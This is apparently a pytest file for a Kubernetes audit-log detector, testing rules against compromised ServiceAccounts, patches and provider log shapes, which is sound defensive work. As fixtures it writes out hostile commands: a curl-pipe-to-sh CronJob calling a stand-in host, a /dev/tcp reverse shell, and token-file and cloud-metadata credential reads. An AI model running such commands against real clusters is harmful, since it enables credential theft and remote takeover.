"""Issue 11, detect: the blind spots found by data nobody on the project wrote. Each test is built
from the case that exposed it."""

from __future__ import annotations

from pathlib import Path

import pytest

from kubestrata.detect.identities import builtin, load
from kubestrata.detect.pipeline import DetectConfig, Pipeline
from kubestrata.detect.rules import DETECTORS
from kubestrata.errors import KubestrataError
from tests.detect.helpers import event, records, rule_ids

SA = "system:serviceaccount:web:frontend"  # a compromised workload's ServiceAccount
SA_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:web", "system:authenticated"]
KCM = "system:kube-controller-manager"


def run(*evs, config: DetectConfig | None = None) -> set[str]:
    pipe = Pipeline(config or DetectConfig())
    out: set[str] = set()
    for e in evs:
        out |= rule_ids(pipe.process_obj(e))
    return out


def sa_event(*a, **kw):
    return event(*a, user=SA, groups=SA_GROUPS, **kw)


CRONJOB = {
    "kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": "update", "namespace": "web"},
    "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": {
        "restartPolicy": "Never",
        "containers": [{"name": "c", "image": "alpine", "command": ["sh", "-c", "curl -s http://x.example/i | sh"]}],
    }}}}},
}  # fmt: skip
DAEMONSET = {
    "kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": "agent", "namespace": "web"},
    "spec": {"selector": {"matchLabels": {"a": "b"}}, "template": {"metadata": {"labels": {"a": "b"}},
             "spec": {"containers": [{"name": "c", "image": "alpine"}]}}},
}  # fmt: skip
CSR = {
    "kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": "me"},
    "spec": {"signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"],
             "request": "LS0t", "groups": ["system:authenticated"]},
}  # fmt: skip


# --- 1. no exemption by prefix --------------------------------------------------------------


def test_compromised_service_account_is_an_ordinary_actor() -> None:
    """Before: every system: user was exempt, so each of these gave zero findings."""
    assert "KS-AUD-N15" in run(sa_event("list", "secrets", namespace=None, uri="/api/v1/secrets"))
    assert "KS-AUD-N05" in run(
        sa_event("create", "daemonsets", name="agent", namespace="web", code=201, request_object=DAEMONSET)
    )
    assert "KS-AUD-N04" in run(
        sa_event("create", "cronjobs", name="update", namespace="web", code=201, request_object=CRONJOB)
    )
    assert "KS-AUD-N02" in run(
        sa_event(
            "create", "certificatesigningrequests", name="me", namespace=None, code=201, request_object=CSR
        )
    )
    assert "KS-AUD-N20" in run(sa_event("deletecollection", "events", namespace="web"))


def test_every_rule_that_excepted_system_users_now_sees_a_service_account() -> None:
    """The 18 rules (17 catalogue families) that used the system: prefix: each fires for a
    ServiceAccount outside the exemption list and stays quiet for a listed control-plane identity."""
    bind = {"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
            "subjects": [{"kind": "ServiceAccount", "name": "frontend", "namespace": "web"}]}  # fmt: skip
    role = {"kind": "ClusterRole", "rules": [{"apiGroups": [""], "resources": ["nodes/proxy", "secrets"],
                                              "verbs": ["get", "*"]}]}  # fmt: skip
    ppod = {"kind": "Pod", "spec": {"hostPID": True, "volumes": [{"name": "h", "hostPath": {"path": "/"}}],
            "containers": [{"name": "c", "image": "alpine", "securityContext": {"privileged": True},
                            "volumeMounts": [{"name": "h", "mountPath": "/h"}]}]}}  # fmt: skip
    exec_kw = dict(subresource="exec", name="p", stage="ResponseStarted", code=101, namespace="kube-system")
    tar = "?command=tar&command=cf&command=-&command=/var/run/secrets/kubernetes.io/serviceaccount/token"
    cases = [
        ("KS-AUD-G40", lambda u, g: event("get", "secrets", name="s", user=u, groups=g)),
        ("KS-AUD-G41", lambda u, g: event("create", "clusterrolebindings", namespace=None, code=201,
                                          request_object=bind, user=u, groups=g)),
        ("KS-AUD-G42", lambda u, g: event("create", "pods", user=u, groups=g, **exec_kw)),
        ("KS-AUD-G43", lambda u, g: event("create", "pods", name="p", namespace="kube-system", code=201,
                                          request_object=ppod, user=u, groups=g)),
        ("KS-AUD-G46", lambda u, g: event("create", "clusterroles", namespace=None, code=201,
                                          request_object=role, user=u, groups=g)),
        ("KS-AUD-N02", lambda u, g: event("create", "certificatesigningrequests", namespace=None, code=201,
                                          request_object=CSR, user=u, groups=g)),
        ("KS-AUD-N03", lambda u, g: event("create", "clusterrolebindings", namespace=None, code=201,
                                          request_object=bind, user=u, groups=g)),
        ("KS-AUD-N04", lambda u, g: event("patch", "cronjobs", name="c", user=u, groups=g)),
        ("KS-AUD-N05", lambda u, g: event("create", "daemonsets", name="d", code=201, request_object=DAEMONSET,
                                          user=u, groups=g)),
        ("KS-AUD-N06", lambda u, g: event("create", "pods", user=u, groups=g,
                                          uri="/api/v1/namespaces/kube-system/pods/p/exec" + tar, **exec_kw)),
        ("KS-AUD-N07", lambda u, g: event("create", "pods", user=u, groups=g,
                                          uri="/api/v1/namespaces/kube-system/pods/p/exec" + tar, **exec_kw)),
        ("KS-AUD-N10", lambda u, g: event("create", "pods", name="p", namespace="kube-system", code=201,
                                          request_object=ppod, user=u, groups=g)),
        ("KS-AUD-N11", lambda u, g: event("create", "pods", name="p", namespace="kube-system", code=201,
                                          request_object=ppod, user=u, groups=g)),
        ("KS-AUD-N12", lambda u, g: event("create", "clusterroles", namespace=None, code=201,
                                          request_object=role, user=u, groups=g)),
        ("KS-AUD-N13", lambda u, g: event("get", "secrets", name="s", code=403, user=u, groups=g)),
        ("KS-AUD-N14", lambda u, g: event("get", "secrets", name="s", user=u, groups=g)),
        ("KS-AUD-N15", lambda u, g: event("list", "secrets", namespace=None, user=u, groups=g)),
        ("KS-AUD-N16", lambda u, g: event("create", "serviceaccounts", subresource="token", name="default",
                                          namespace="kube-system", code=201, user=u, groups=g)),
        ("KS-AUD-N20", lambda u, g: event("delete", "events", name="e", user=u, groups=g)),
        ("KS-AUD-N21", lambda u, g: event("create", "pods", name="p", namespace="kube-system", code=201,
                                          request_object=ppod, user=u, groups=g)),
        ("KS-AUD-N22", lambda u, g: event("create", "pods", name="p", namespace="kube-system", code=201,
                                          request_object=ppod, user=u, groups=g)),
        ("KS-AUD-N23", lambda u, g: event("create", "clusterroles", namespace=None, code=201,
                                          request_object=role, user=u, groups=g)),
    ]  # fmt: skip
    thresholds = {"KS-AUD-N13": 1, "KS-AUD-N14": 1, "KS-AUD-N18": 1}
    for rid, make in cases:
        cfg = DetectConfig(thresholds=dict(thresholds))
        assert rid in run(make(SA, SA_GROUPS), config=cfg), rid
        sa_kube_system = "system:serviceaccount:kube-system:my-operator"
        assert rid in run(make(sa_kube_system, ["system:serviceaccounts"]), config=cfg), rid
        cfg = DetectConfig(thresholds=dict(thresholds))
        assert rid not in run(make(KCM, ["system:authenticated"]), config=cfg), rid


def test_no_rule_outside_falco_parity_reads_the_system_prefix() -> None:
    """The prefix helper is Falco's non_system_user macro, kept for the Falco parity rules only."""
    import inspect

    for d in DETECTORS:
        if "is_system(" in inspect.getsource(d.fn):
            assert all(i.startswith("KS-AUD-F") for i in d.ids), d.name


def test_named_control_plane_identities_are_exempt() -> None:
    ns_ctrl = "system:serviceaccount:kube-system:namespace-controller"
    assert "KS-AUD-N20" not in run(event("deletecollection", "events", namespace="gone", user=ns_ctrl))
    assert "KS-AUD-N15" not in run(event("list", "secrets", namespace=None, user=KCM))
    ds = "system:serviceaccount:kube-system:daemon-set-controller"
    ppod = {"kind": "Pod", "spec": {"hostNetwork": True, "containers": [{"name": "c", "image": "cni"}]}}
    assert "KS-AUD-N21" not in run(
        event(
            "create",
            "pods",
            name="aws-node-x",
            namespace="kube-system",
            code=201,
            request_object=ppod,
            user=ds,
        )  # fmt: skip
    )
    # the same pod created by that controller in an application namespace is still reported
    assert "KS-AUD-N21" in run(
        event("create", "pods", name="x", namespace="web", code=201, request_object=ppod, user=ds)
    )
    # eks: components by name, and only the documented ones
    assert "KS-AUD-N05" not in run(
        event("create", "daemonsets", name="d", code=201, request_object=DAEMONSET, user="eks:addon-manager")
    )
    assert "KS-AUD-N05" in run(
        event("create", "daemonsets", name="d", code=201, request_object=DAEMONSET, user="eks:made-up")
    )


def test_kubelets_are_recognised_by_the_node_authorizer_criterion() -> None:
    node = "system:node:ip-10-0-1-2.ec2.internal"
    cfg = DetectConfig(thresholds={"KS-AUD-N14": 1})
    assert "KS-AUD-N14" not in run(
        event("get", "secrets", name="s", user=node, groups=["system:nodes"]), config=cfg
    )
    # a user named like a node without the group is not a kubelet
    cfg = DetectConfig(thresholds={"KS-AUD-N14": 1})
    assert "KS-AUD-N14" in run(
        event("get", "secrets", name="s", user=node, groups=["system:authenticated"]), config=cfg
    )
    # kubelets are exempt only from the rules the Node authorizer bounds: not from listing all secrets
    assert "KS-AUD-N15" in run(event("list", "secrets", namespace=None, user=node, groups=["system:nodes"]))


def test_api_server_bootstrap_bindings_are_not_findings() -> None:
    """Issue 11: N03 (documented as excluding system controllers) fired on the API server's own
    bootstrap RBAC reconciliation (user system:apiserver, group system:masters)."""
    crb = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
           "metadata": {"name": "cluster-admin", "labels": {"kubernetes.io/bootstrapping": "rbac-defaults"}},
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
           "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:masters"}]}  # fmt: skip
    boot = event("create", "clusterrolebindings", namespace=None, name="cluster-admin", code=201,
                 request_object=crb, user="system:apiserver", groups=["system:masters"],
                 ips=["::1"], user_agent="kube-apiserver/v1.31.0 (linux/amd64) kubernetes/abc")  # fmt: skip
    assert not {"KS-AUD-N03", "KS-AUD-G41"} & run(boot)
    attacker = event("create", "clusterrolebindings", namespace=None, name="cluster-admin2", code=201,
                     request_object=crb, user=SA, groups=SA_GROUPS)  # fmt: skip
    assert "KS-AUD-N03" in run(attacker)


def test_exemption_list_is_data_with_sources() -> None:
    cp = builtin()
    assert len(cp.identities) > 40
    for i in cp.identities:
        assert i.source, i
        assert i.user or i.group
        assert not i.user.endswith("*")
    assert "system:kube-controller-manager" in cp.users()
    assert not any(u.startswith("system:serviceaccount:") and not u.startswith("system:serviceaccount:kube-system:")
                   for u in cp.users())  # fmt: skip


def test_exemption_list_is_overridable(tmp_path: Path) -> None:
    ksm = "system:serviceaccount:kube-system:kube-state-metrics"
    f = tmp_path / "ids.yaml"
    f.write_text(f"identities:\n  - user: {ksm}\n    rules: [KS-AUD-N15]\n    source: our add-on\n")
    ev = lambda: event("list", "secrets", namespace=None, user=ksm)  # noqa: E731
    assert "KS-AUD-N15" in run(ev())
    cfg = DetectConfig(control_plane=load(str(f)))
    assert "KS-AUD-N15" not in run(ev(), config=cfg)
    assert "KS-AUD-N14" in run(
        ev(), config=DetectConfig(control_plane=load(str(f)), thresholds={"KS-AUD-N14": 1})
    )
    # replace: the built-in list goes
    f.write_text("replace: true\nidentities:\n  - user: someone\n")
    assert "KS-AUD-N15" in run(event("list", "secrets", namespace=None, user=KCM),
                               config=DetectConfig(control_plane=load(str(f))))  # fmt: skip


@pytest.mark.parametrize(
    "text, msg",
    [
        ("identities: 3\n", "an 'identities' list"),
        ("identities:\n  - user: a\n    group: b\n", "exactly one of"),
        ("identities:\n  - user: a\n    user_prefix: 'system:'\n", "only allowed with a group"),
        ("identities:\n  - user: a\n    rules: [KS-AUD-N99]\n", "unknown rule id 'KS-AUD-N99'"),
        ("identities:\n  - usr: a\n", "unknown field 'usr'"),
        ("identities: [\n", "not valid YAML"),
    ],
)
def test_bad_exemption_file_names_file_and_entry(tmp_path: Path, text: str, msg: str) -> None:
    from kubestrata.detect.catalogue import CATALOGUE

    f = tmp_path / "ids.yaml"
    f.write_text(text)
    with pytest.raises(KubestrataError, match=msg) as ei:
        load(str(f), set(CATALOGUE))
    assert str(f) in str(ei.value)


# --- 2. patch and server-side apply -----------------------------------------------------------

DEPLOY = {
    "kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": "web", "namespace": "shop"},
    "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "web"}}, "template": {
        "metadata": {"labels": {"app": "web"}},
        "spec": {"containers": [{"name": "web", "image": "nginx:1.27"}, {"name": "log", "image": "fluent-bit:3"}]}}},
}  # fmt: skip
PRIV_PATCH = {"spec": {"template": {"spec": {"containers": [
    {"name": "web", "securityContext": {"privileged": True}}]}}}}  # fmt: skip


def kubectl_patch(resource: str, name: str, body, namespace: str | None = "shop", *, code: int = 200,
                  manager: str = "kubectl-patch", group: str = "apps", **kw):  # fmt: skip
    """An audit event as the API server writes it for `kubectl patch` (Request level: the
    requestObject is the patch document as sent, audit.LogRequestPatch) or `kubectl apply
    --server-side` (manager kubectl, 201 when it created the object)."""
    base = f"/apis/{group}/v1" if group else "/api/v1"
    path = base + (f"/namespaces/{namespace}" if namespace else "") + f"/{resource}/{name}"
    ev = event("patch", resource, name=name, namespace=namespace, code=code, request_object=body,
               uri=f"{path}?fieldManager={manager}", **kw)  # fmt: skip
    ev["objectRef"]["apiGroup"] = group
    return ev


def test_kubectl_patch_privileged_container_is_seen() -> None:
    """Before: rules on create/update only; a privileged container added by kubectl patch was
    seen only when the ReplicaSet controller created the pods (and exempt in kube-system)."""
    ids = run(kubectl_patch("deployments", "web", PRIV_PATCH))
    assert "KS-AUD-N22" in ids
    # in kube-system, patching a system DaemonSet
    ids = run(kubectl_patch("daemonsets", "aws-node", PRIV_PATCH, namespace="kube-system"))
    assert "KS-AUD-N22" in ids


def test_json_patch_event_is_parsed_and_evaluated() -> None:
    """Before: a JSON patch's requestObject is a list (the operations) and the whole event was
    dropped as bad input, so even the metadata rules never saw it."""
    ops = [{"op": "add", "path": "/spec/template/spec/volumes/-",
            "value": {"name": "host", "hostPath": {"path": "/"}}},
           {"op": "add", "path": "/spec/template/spec/hostPID", "value": True}]  # fmt: skip
    pipe = Pipeline(DetectConfig())
    found = records(pipe.process_obj(kubectl_patch("daemonsets", "aws-node", ops, namespace="kube-system")))
    assert pipe.stats.bad_total == 0
    by_rule = {f["ruleId"]: f for f in found}
    assert {"KS-AUD-N10", "KS-AUD-N21"} <= set(by_rule)
    assert by_rule["KS-AUD-N21"]["evidence"][0]["path"] == "patchedObject.spec.template.spec.hostPID"


def test_response_object_is_the_produced_object() -> None:
    produced_obj = {**DEPLOY, "spec": {**DEPLOY["spec"], "template": {"metadata": {}, "spec": {
        "containers": [{"name": "web", "image": "nginx", "securityContext": {"privileged": True}}]}}}}  # fmt: skip
    ev = kubectl_patch(
        "deployments", "web", {"metadata": {"labels": {"x": "y"}}}, response_object=produced_obj
    )
    pipe = Pipeline(DetectConfig())
    f = [x for x in records(pipe.process_obj(ev)) if x["ruleId"] == "KS-AUD-N22"]
    assert f and f[0]["evidence"][0]["path"].startswith("responseObject.spec.template.spec.containers[0]")


def test_patch_applies_to_the_known_object_and_reports_only_what_it_introduced() -> None:
    pipe = Pipeline(DetectConfig())
    create = event("create", "deployments", name="web", namespace="shop", code=201, request_object=DEPLOY)
    create["objectRef"]["apiGroup"] = "apps"
    assert "KS-AUD-N22" not in rule_ids(pipe.process_obj(create))
    f = [
        x
        for x in records(pipe.process_obj(kubectl_patch("deployments", "web", PRIV_PATCH)))
        if x["ruleId"] == "KS-AUD-N22"
    ]
    assert f[0]["evidence"] == [
        {"path": "patchedObject.spec.template.spec.containers[0].securityContext.privileged", "value": True}
    ]
    # strategic merge by name: the second container is still there
    assert (
        pipe.objects.get(("", "deployments", "shop", "web"))["spec"]["template"]["spec"]["containers"][1][
            "name"
        ]
        == "log"
    )
    # a later label patch of the (still privileged) Deployment introduces nothing
    assert "KS-AUD-N22" not in rule_ids(
        pipe.process_obj(kubectl_patch("deployments", "web", {"metadata": {"labels": {"tier": "1"}}}))
    )


def test_server_side_apply_creating_objects() -> None:
    """`kubectl apply --server-side` creates with verb patch, answered 201."""
    assert "KS-AUD-N05" in run(kubectl_patch("daemonsets", "agent", DAEMONSET, code=201, manager="kubectl"))
    # a later apply that changes the DaemonSet is not a creation
    assert "KS-AUD-N05" not in run(
        kubectl_patch("daemonsets", "agent", DAEMONSET, code=200, manager="kubectl")
    )
    assert "KS-AUD-N02" in run(
        kubectl_patch(
            "certificatesigningrequests",
            "me",
            CSR,
            namespace=None,
            code=201,
            group="certificates.k8s.io",
            manager="kubectl",
            user=SA,
            groups=SA_GROUPS,
        )  # fmt: skip
    )


def test_binding_and_role_changes() -> None:
    pipe = Pipeline(DetectConfig())
    crb = {"kind": "ClusterRoleBinding", "metadata": {"name": "ops"},
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
           "subjects": [{"kind": "Group", "name": "ops", "apiGroup": "rbac.authorization.k8s.io"}]}  # fmt: skip
    create = event("create", "clusterrolebindings", name="ops", namespace=None, code=201, request_object=crb)
    assert "KS-AUD-N03" in rule_ids(pipe.process_obj(create))
    add_sa = [{"op": "add", "path": "/subjects/-", "value": {"kind": "ServiceAccount", "name": "default",
                                                            "namespace": "web"}}]  # fmt: skip
    ids = rule_ids(pipe.process_obj(kubectl_patch("clusterrolebindings", "ops", add_sa, namespace=None,
                                                  group="rbac.authorization.k8s.io", user=SA, groups=SA_GROUPS)))  # fmt: skip
    assert {"KS-AUD-N03", "KS-AUD-G03"} <= ids
    # anonymous bound through an update of a RoleBinding
    rb = {"kind": "RoleBinding", "roleRef": {"kind": "ClusterRole", "name": "view"},
          "subjects": [{"kind": "User", "name": "system:anonymous"}]}  # fmt: skip
    upd = event("update", "rolebindings", name="rb", namespace="web", code=200, request_object=rb)
    assert "KS-AUD-G02" in run(upd)
    # nodes/proxy added to an existing role by a merge patch
    role_patch = {"rules": [{"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["get"]}]}
    assert "KS-AUD-N12" in run(
        kubectl_patch(
            "clusterroles", "monitoring", role_patch, namespace=None, group="rbac.authorization.k8s.io"
        )
    )


def test_failed_patch_produces_nothing() -> None:
    assert "KS-AUD-N22" not in run(kubectl_patch("deployments", "web", PRIV_PATCH, code=422))


# --- 3. providers' log shapes, token paths, dedup order ---------------------------------------


def gke_entry(method: str, resource_name: str, *, caller_ip: str, key: str = "callerIp", user: str) -> dict:
    """A GKE Cloud Audit Log entry as Cloud Logging exports it (LogEntry JSON: protoPayload is a
    google.cloud.audit.AuditLog; requestMetadata.callerIp is lowerCamelCase)."""
    return {
        "insertId": "x1", "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity",
        "operation": {"id": "0f6c2d3e-aaaa-bbbb-cccc-000000000001", "producer": "k8s.io", "first": True, "last": True},
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "authenticationInfo": {"principalEmail": user},
            "authorizationInfo": [{"granted": True, "permission": "io.k8s.core.v1.secrets.list",
                                   "resource": "core/v1/secrets"}],
            "methodName": method, "resourceName": resource_name, "serviceName": "k8s.io",
            "requestMetadata": {key: caller_ip, "callerSuppliedUserAgent": "kubectl/v1.30.1"},
            "status": {},
        },
        "receiveTimestamp": "2026-11-27T10:00:01.0Z",
        "resource": {"type": "k8s_cluster", "labels": {"cluster_name": "prod", "location": "europe-west1"}},
        "timestamp": "2026-11-27T10:00:00.0Z",
    }  # fmt: skip


def test_gke_caller_ip_spelling_of_cloud_logging() -> None:
    """Before: the adapter read callerIP; Cloud Logging writes callerIp, so no source-IP rule fired."""
    sa = "system:serviceaccount:kube-system:coredns"
    for key in ("callerIp", "callerIP"):
        ev = gke_entry(
            "io.k8s.core.v1.secrets.list", "core/v1/secrets", caller_ip="185.220.101.7", key=key, user=sa
        )
        pipe = Pipeline(DetectConfig())
        found = pipe.process_obj(ev)
        assert "KS-AUD-N17" in rule_ids(found), key
        assert found[0].to_dict()["sourceIPs"] == ["185.220.101.7"]


@pytest.mark.parametrize(
    "command, rule",
    [
        # EKS Pod Identity: the projected token and the agent (IPv4 and IPv6)
        ("cat /var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token", "KS-AUD-N07"),
        ("sh -c cat $AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", "KS-AUD-N07"),
        ("curl -H Authorization:x http://169.254.170.23/v1/credentials", "KS-AUD-N08"),
        ("curl http://[fd00:ec2::23]/v1/credentials", "KS-AUD-N08"),
        # AKS workload identity
        ("cat /var/run/secrets/azure/tokens/azure-identity-token", "KS-AUD-N07"),
        ("sh -c cat $AZURE_FEDERATED_TOKEN_FILE", "KS-AUD-N07"),
        ("curl http://168.63.129.16/machine?comp=goalstate", "KS-AUD-N08"),
        # the ones that always worked
        ("cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token", "KS-AUD-N07"),
        ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "KS-AUD-N08"),
    ],
)
def test_token_theft_and_metadata_cover_pod_identity_and_workload_identity(command: str, rule: str) -> None:
    from urllib.parse import quote

    q = "&".join(
        "command=" + quote(part, safe="") for part in command.split(" ", 2 if command.startswith("sh") else 1)
    )
    ev = event("create", "pods", subresource="exec", name="app-1", namespace="shop", stage="ResponseStarted",
               code=101, uri=f"/api/v1/namespaces/shop/pods/app-1/exec?{q}&container=app&stdout=true")  # fmt: skip
    assert rule in run(ev)


def test_dedup_window_does_not_re_emit_on_out_of_order_events() -> None:
    """Before: an event older than the last emission (late delivery) re-emitted the finding."""

    def secret_get(ts: str) -> dict:
        return event("get", "secrets", name="db", stageTimestamp=ts, requestReceivedTimestamp=ts)

    pipe = Pipeline(DetectConfig(only=frozenset({"KS-AUD-F50"})))
    assert pipe.process_obj(secret_get("2026-11-27T10:30:00.000000Z"))
    assert not pipe.process_obj(secret_get("2026-11-27T10:05:00.000000Z"))  # late, older
    assert not pipe.process_obj(secret_get("2026-11-27T11:00:00.000000Z"))  # 30 min after
    assert pipe.process_obj(secret_get("2026-11-27T11:31:00.000000Z"))  # a window after the emission
    assert pipe.stats.suppressed == 2


# --- 5. the same classes elsewhere ------------------------------------------------------------


def test_curl_pipe_sh_cronjob_and_reverse_shell_deployment() -> None:
    """The exec rules read commands of kubectl exec only; a CronJob that runs `curl | sh` every
    five minutes was a low 'CronJob created' at best."""
    ids = run(
        sa_event("create", "cronjobs", name="update", namespace="web", code=201, request_object=CRONJOB)
    )
    assert "KS-AUD-N24" in ids
    shell = {"spec": {"template": {"spec": {"containers": [
        {"name": "web", "args": ["bash", "-i", ">&", "/dev/tcp/198.51.100.7/4444", "0>&1"]}]}}}}  # fmt: skip
    assert "KS-AUD-N24" in run(kubectl_patch("deployments", "web", shell))
    # the Job the cronjob-controller creates from that template is not its author's doing
    job = {"kind": "Job", "spec": CRONJOB["spec"]["jobTemplate"]["spec"]}
    assert "KS-AUD-N24" not in run(
        event(
            "create",
            "jobs",
            name="update-1",
            namespace="web",
            code=201,
            request_object=job,
            user="system:serviceaccount:kube-system:cronjob-controller",
        )  # fmt: skip
    )
    quiet = {"kind": "CronJob", "spec": {"jobTemplate": {"spec": {"template": {"spec": {
        "containers": [{"name": "c", "image": "curlimages/curl", "command": ["curl", "-fsS", "http://svc/ping"]}]}}}}}}  # fmt: skip
    assert "KS-AUD-N24" not in run(event("create", "cronjobs", name="ping", code=201, request_object=quiet))


def test_privileged_debug_container_added_by_kubectl_debug() -> None:
    """`kubectl debug -it pod --profile=sysadmin` patches pods/ephemeralcontainers with a
    privileged container: only F13 (a notice) saw it."""
    body = {"spec": {"ephemeralContainers": [{"name": "debugger-x", "image": "busybox", "stdin": True, "tty": True,
                                              "securityContext": {"privileged": True}}]}}  # fmt: skip
    ev = event(
        "patch",
        "pods",
        subresource="ephemeralcontainers",
        name="web-1",
        namespace="shop",
        request_object=body,
    )
    ids = run(ev)
    assert {"KS-AUD-F13", "KS-AUD-N22"} <= ids
    unpriv = {"spec": {"ephemeralContainers": [{"name": "debugger-y", "image": "busybox"}]}}
    ev = event("patch", "pods", subresource="ephemeralcontainers", name="web-1", namespace="shop",
               request_object=unpriv)  # fmt: skip
    assert "KS-AUD-N22" not in run(ev)


def test_anonymous_and_all_service_account_groups_in_bindings() -> None:
    unauth = {"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": "view"},
              "subjects": [{"kind": "Group", "name": "system:unauthenticated"}]}  # fmt: skip
    assert "KS-AUD-G02" in run(
        event("create", "clusterrolebindings", namespace=None, code=201, request_object=unauth)
    )
    all_sa = {"kind": "RoleBinding", "roleRef": {"kind": "ClusterRole", "name": "admin"},
              "subjects": [{"kind": "Group", "name": "system:serviceaccounts:web"}]}  # fmt: skip
    assert "KS-AUD-G03" in run(
        event("create", "rolebindings", namespace="web", code=201, request_object=all_sa)
    )


def test_host_path_persistent_volume() -> None:
    pv = {"kind": "PersistentVolume", "metadata": {"name": "root"},
          "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/"}}}  # fmt: skip
    assert "KS-AUD-N10" in run(sa_event("create", "persistentvolumes", name="root", namespace=None, code=201,
                                        request_object=pv))  # fmt: skip


def test_a_control_plane_name_is_not_an_exemption_for_impersonators_or_iam_users() -> None:
    listing = dict(namespace=None, uri="/api/v1/secrets")
    # kubectl --as=system:kube-controller-manager: the audit user is the impersonator
    ev = event("list", "secrets", user="mallory@example.com", impersonatedUser={"username": KCM}, **listing)
    assert "KS-AUD-N15" in run(ev)
    # an IAM role mapped to a control-plane user name in aws-auth (EKS): user.extra carries the ARN
    iam = event("list", "secrets", user=KCM, **listing)
    iam["user"]["uid"] = "aws-iam-authenticator:111122223333:AROAEXAMPLE"
    iam["user"]["extra"] = {
        "arn": ["arn:aws:sts::111122223333:assumed-role/ci/i-0abc"],
        "sessionName": ["i-0abc"],
    }
    assert "KS-AUD-N15" in run(iam)
    assert "KS-AUD-N15" not in run(event("list", "secrets", user=KCM, **listing))


def test_gke_shapes_seen_in_public_samples() -> None:
    """Shapes from elastic/integrations packages/kubernetes audit_logs pipeline tests: a
    non-resource health check logs resourceName "readyz" with methodName io.k8s.get, and the
    audit annotations travel in the LogEntry's labels."""
    from kubestrata.detect.decode import gke_to_event

    entry = gke_entry("io.k8s.get", "readyz", caller_ip="35.1.2.3", user="system:anonymous")
    entry["labels"] = {"authorization.k8s.io/decision": "allow",
                       "authorization.k8s.io/reason": 'RBAC: allowed by ClusterRoleBinding "system:public-info-viewer"'}  # fmt: skip
    ev = gke_to_event(entry)
    assert ev["requestURI"] == "/readyz" and ev["verb"] == "get" and "objectRef" not in ev
    assert ev["annotations"]["authorization.k8s.io/reason"].startswith("RBAC: allowed by")
    # a health check is not "anonymous request allowed" nor successful anonymous discovery
    assert not {"KS-AUD-F10", "KS-AUD-G21"} & run(entry)
    # a real anonymous API read is
    entry = gke_entry(
        "io.k8s.core.v1.pods.list", "core/v1/pods", caller_ip="35.1.2.3", user="system:anonymous"
    )
    assert {"KS-AUD-G21", "KS-AUD-N19"} <= run(entry)


def test_aks_control_plane_in_a_kube_audit_admin_record() -> None:
    """AKS diagnostic record (category kube-audit-admin, properties.log an object): the managed
    control plane's user aksService is exempt by name; another user in system:masters is not."""

    def record(user: str) -> dict:
        inner = event("create", "daemonsets", name="agent", namespace="kube-system", code=201,
                      request_object=DAEMONSET, user=user, groups=["system:masters", "system:authenticated"])  # fmt: skip
        return {"category": "kube-audit-admin", "operationName": "Microsoft.ContainerService/managedClusters/"
                "diagnosticLogs/Read", "properties": {"log": inner, "pod": "kube-apiserver-x", "stream": "stdout"},
                "resourceId": "/SUBSCRIPTIONS/S/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.CONTAINERSERVICE/"
                "MANAGEDCLUSTERS/C", "time": "2026-11-27T10:00:00.1Z"}  # fmt: skip

    assert "KS-AUD-N05" not in run(record("aksService"))
    assert "KS-AUD-N05" in run(record("masterclient"))


def test_service_account_anomalies_ignore_pod_address_churn_but_not_public_addresses() -> None:
    pipe = Pipeline(DetectConfig())

    def read(ip: str, name: str) -> set[str]:  # another secret each time: no dedup-window folding
        return rule_ids(pipe.process_obj(sa_event("get", "secrets", name=name, ips=[ip])))

    assert "KS-AUD-G40" in read("10.0.1.7", "db")  # first read of secrets by this ServiceAccount
    assert "KS-AUD-G40" not in read("10.0.9.31", "cache")  # rescheduled pod, another node's subnet
    assert "KS-AUD-G40" in read("185.220.101.7", "api")  # its token used from the internet


def test_rules_catalogue_dispatch_lists_every_detector_of_a_rule() -> None:
    from kubestrata.detect.rules import dispatch_of

    d = dispatch_of("KS-AUD-N10")
    assert {"persistentvolumes", "pods", "deployments"} <= set(d["resources"])
    assert set(d["verbs"]) == {"create", "update", "patch"} and "ephemeralcontainers" in d["subresources"]
